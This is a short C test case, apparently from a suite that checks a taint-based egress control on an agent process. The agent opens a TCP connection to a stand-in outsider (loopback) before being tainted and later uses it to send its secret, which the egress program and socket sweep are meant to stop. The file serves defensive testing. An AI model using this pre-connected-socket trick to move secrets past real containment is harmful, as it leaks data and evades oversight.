// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* preconnect_tcp - a TCP connection to an outsider (127.0.0.1) opened BEFORE the taint and used
 * after it.
 * Verifier: the collector's tcp4 listener.
 * Blocks it: the egress program drops the tainted agent's packets to external addresses; the
 * sweep aborts the connection (SOCK_DESTROY). */
#include <arpa/inet.h>
#include <netinet/in.h>

#include "atk.h"

static int agent(struct atk_ctx *c)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    sa.sin_port = htons((uint16_t)atk_argl(c, "tcp4"));
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    atk_try(c, "connect before the taint", fd < 0 ? -1 : connect(fd, (struct sockaddr *)&sa, sizeof(sa)));
    atk_recv(c);
    atk_try(c, "send after the taint", send(fd, c->secret, strlen(c->secret), MSG_NOSIGNAL));
    usleep(500000);
    return 0;
}

static const struct atk A = {
    "preconnect_tcp", "TCP connection opened before the taint", ATK_NO_RECV, NULL, agent, NULL, NULL, NULL};
ATK_MAIN(A)
